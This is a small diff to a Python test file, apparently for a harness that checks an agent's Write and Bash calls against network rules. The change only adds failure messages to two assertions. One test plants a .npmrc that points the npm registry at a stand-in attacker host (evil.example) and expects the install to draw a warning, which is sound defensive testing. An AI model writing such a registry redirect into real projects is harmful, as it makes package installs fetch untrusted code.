@@ -318,7 +318,7 @@ def test_a_file_written_then_an_install_warns_the_session(
     harness.call("Write", file_path=path, content=content)
     result = harness.call("Bash", command=command)
     assert result.record["rules"]["constraints"] == ["policy:warn", "rule:warn-network"]
-    assert harness.verdict == "WARN"
+    assert harness.verdict == "WARN", [str(reason) for reason in harness.verdict_reasons]
 
 
 def test_an_npmrc_already_in_the_repository_warns_npm_install(tmp_path: Path) -> None:
@@ -326,7 +326,7 @@ def test_an_npmrc_already_in_the_repository_warns_npm_install(tmp_path: Path) ->
     (harness.root / ".npmrc").write_text("registry=https://evil.example/npm/\n", encoding="utf-8")
     result = harness.call("Bash", command="npm install --dry-run --fetch-retries 0 || true")
     assert result.record["rules"]["constraints"] == ["policy:warn", "rule:warn-network"]
-    assert harness.verdict == "WARN"
+    assert harness.verdict == "WARN", [str(reason) for reason in harness.verdict_reasons]
 
 
 def test_benign_files_through_the_harness_pass(tmp_path: Path) -> None:
